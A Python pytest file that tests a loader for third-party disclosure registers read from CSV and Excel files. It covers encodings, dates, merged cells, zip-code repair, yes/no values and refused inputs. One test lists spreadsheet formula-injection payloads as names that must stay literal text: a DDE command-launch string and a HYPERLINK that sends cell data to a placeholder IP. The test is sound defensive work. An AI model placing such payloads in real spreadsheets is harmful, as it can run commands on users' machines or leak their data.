"""The acceptance files for the register, as far as reading them goes."""

from collections import Counter
from datetime import date

import pytest

from requests_app.register.load.row import UnreadableError
from requests_app.statute import Relation, Use
from tests.register.load.files import GIVEN, read


def test_a_clean_file_gives_every_row_and_has_nothing_to_tell() -> None:
    found = read(GIVEN / "R01-baseline.csv")
    assert found.clean
    assert found.reading.rows == 6
    assert len(found.reading.parties) == 5
    assert [each.on for each in found.given][:2] == [date(2025, 2, 11), date(2025, 2, 11)]
    assert found.terms(7).use is Use.NONE
    assert found.terms(5).categories == ("product_kind",)


def test_semicolons_and_a_byte_order_mark_change_nothing() -> None:
    found, plain = read(GIVEN / "R02-bom-semicolon.csv"), read(GIVEN / "R01-baseline.csv")
    assert found.clean
    assert found.given == plain.given
    assert found.reading.parties == plain.reading.parties
    assert found.reading.terms == plain.reading.terms


def test_an_older_encoding_is_read_and_told() -> None:
    found = read(GIVEN / "R04-cp1252.csv")
    assert found.names() == ["Café Crème Mailing™ – l’Été"]
    assert "Windows-1252" in found.warnings[0].says


def test_dates_of_every_kind_are_read_or_told() -> None:
    found = read(GIVEN / "R06-dates-mixed.xlsx")
    days = ["2025-04-03", "2025-12-31", "2025-03-31", "2025-04-03", "2025-04-03", "2025-04-03", "2025-03-04"]
    assert [str(each.on) for each in found.given] == days
    assert [each.row for each in found.warnings] == [4, 6, 8]


def test_a_merged_name_stands_in_every_row_it_spans() -> None:
    found = read(GIVEN / "R08-merged.xlsx")
    assert found.clean
    assert found.names() == ["Mock Catalog Company"] * 3 + ["Fictional Travel Club, Inc."]


def test_a_formula_without_its_value_is_refused_with_its_address() -> None:
    found = read(GIVEN / "R09-formula-nocache.xlsx")
    assert found.given == []
    assert [(each.row, each.column) for each in found.faults] == [(2, "third_party_name"), (2, "zip")]
    assert all("formula" in each.says for each in found.faults)
    assert "A2" in found.faults[0].says


def test_a_formula_with_its_value_is_read_by_it() -> None:
    assert read(GIVEN / "R10-formula-cached.xlsx").names() == ["Mock Catalog Company"]


def test_names_that_look_like_formulas_stay_letter_for_letter() -> None:
    found = read(GIVEN / "R11-formula-names.csv")
    assert found.clean
    assert found.names() == [
        "=cmd|' /C calc'!A0",
        "+1 800 Flowers-style Offers",
        "-Minus Corp",
        "@Home Mailers",
        '=HYPERLINK("http://192.0.2.80/?x="&A1,"click")',
    ]


def test_a_heading_that_stands_twice_is_refused_by_name() -> None:
    with pytest.raises(UnreadableError, match="Address"):
        read(GIVEN / "R13-dup-headers.csv")


def test_formatting_in_the_last_possible_row_adds_no_rows() -> None:
    found = read(GIVEN / "R15-trailing-format.xlsx")
    assert found.clean
    assert found.reading.rows == 6


def test_damaged_zip_codes_are_mended_or_refused() -> None:
    found = read(GIVEN / "R17-zip-damage.csv")
    assert found.party(2).postal_code == "93721"
    assert found.party(4).postal_code == "02110"
    assert found.places == [(5, "zip", "8.54E+03")]
    assert [(each.row, each.value) for each in found.warnings] == [(2, "93721.0"), (4, "2110")]


def test_quotes_and_line_breaks_in_cells_are_kept_and_counted_right() -> None:
    found = read(GIVEN / "R18-quoted-newlines.csv")
    assert found.clean
    assert found.names() == ['Mock "Best Deals" Company', "Fictional Travel Club, Inc."]
    assert found.party(2).street == "100 Sample St, Building B, Attn: Lists"


def test_only_a_sure_yes_or_no_is_taken() -> None:
    found = read(GIVEN / "R20-yes-no.csv")
    uses = {each.row: found.terms(each.row).use for each in found.given}
    assert [row for row, use in uses.items() if use is Use.DIRECT_MARKETING] == [2, 3, 4, 5]
    assert [row for row, use in uses.items() if use is Use.NONE] == [8, 9, 10, 11]
    refused = {each.value for each in found.faults}
    assert refused == {"x", "✓", "", "N/A", "Yes*", "si", "maybe", "-"}
    assert {each.column for each in found.faults} == {"direct_marketing"}


def test_typed_truth_is_taken_and_foreign_words_are_not() -> None:
    found = read(GIVEN / "R21-typed-bools.xlsx")
    uses = {each.row: found.terms(each.row).use for each in found.given}
    assert [row for row, use in uses.items() if use is Use.DIRECT_MARKETING] == [2, 4, 6, 9]
    assert [row for row, use in uses.items() if use is Use.NONE] == [3, 5]
    assert [each.row for each in found.faults] == [7, 8]


def test_days_on_the_edges_of_a_year_stay_in_theirs() -> None:
    found = read(GIVEN / "R22-year-edges.csv")
    assert Counter(each.on.year for each in found.given if each.on) == {2024: 1, 2025: 2, 2026: 1}


def test_no_bad_date_becomes_another_one() -> None:
    found = read(GIVEN / "R24-bad-dates.csv")
    assert [each.row for each in found.faults] == [2, 3, 5, 6, 7, 8]
    assert [(each.row, each.on) for each in found.given] == [(4, date(2025, 1, 1))]
    assert found.warnings[0].row == 4


def test_spellings_that_differ_by_blanks_alone_are_one_third_party() -> None:
    found = read(GIVEN / "R25-name-variants.csv")
    assert len(found.reading.parties) == 3
    assert found.given[0].party == found.given[3].party == found.given[4].party


def test_two_addresses_are_two_third_parties() -> None:
    assert len(read(GIVEN / "R26-same-name-two-addresses.csv").reading.parties) == 2


def test_a_missing_address_is_told_once_and_stops_nothing() -> None:
    found = read(GIVEN / "R27-no-address.csv")
    assert not found.faults
    assert [each.row for each in found.warnings] == [4, 5]
    assert all("postal address missing" in each.says for each in found.warnings)
    assert found.party(5).street == ""


def test_words_that_are_no_sure_category_are_asked_about() -> None:
    found = read(GIVEN / "R28-categories.csv")
    asked = [each.value for each in found.questions]
    assert asked == ["purchase history", "Browsing history", "Device ID"]
    codes = [found.terms(each.row).categories[0] for each in found.given]
    expected = ["email", "email", "telephone", "ssn", "age_dob", "name_address", "children_age_gender", "email"]
    assert codes == expected


def test_same_brand_affiliates_are_known_as_such() -> None:
    found = read(GIVEN / "R30-affiliates.csv")
    assert {each.relation for each in found.reading.parties} == {Relation.SAME_BRAND_AFFILIATE}


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("R32a-empty.csv", "empty"),
        ("R32b-header-only.csv", "no row below"),
        ("R32c-pdf.xlsx", "PDF"),
        ("R32d-html.csv", "web page"),
    ],
)
def test_what_is_no_register_is_refused_with_a_sentence(name: str, says: str) -> None:
    with pytest.raises(UnreadableError, match=says) as refused:
        read(GIVEN / name)
    assert refused.value.remarks.refuse


def test_the_sheet_with_the_headings_is_read_and_the_hidden_one_is_not() -> None:
    found = read(GIVEN / "R35-sheets.xlsx")
    assert found.reading.source.sheet == "Register"
    assert found.reading.rows == len(found.given) == 6
    assert [each.value for each in found.warnings] == ["old 2019"]


def test_one_bad_row_is_named_and_the_others_are_understood() -> None:
    found = read(GIVEN / "R40-one-bad-row.csv")
    assert found.places == [(8, "disclosed_on", "not a date")]
    assert len(found.given) == 17


def test_addresses_abroad_follow_no_rule_of_the_united_states() -> None:
    found = read(GIVEN / "R44-foreign.csv")
    assert found.clean
    assert [each.postal_code for each in found.reading.parties] == ["W1D 4PS", "1012 TL"]
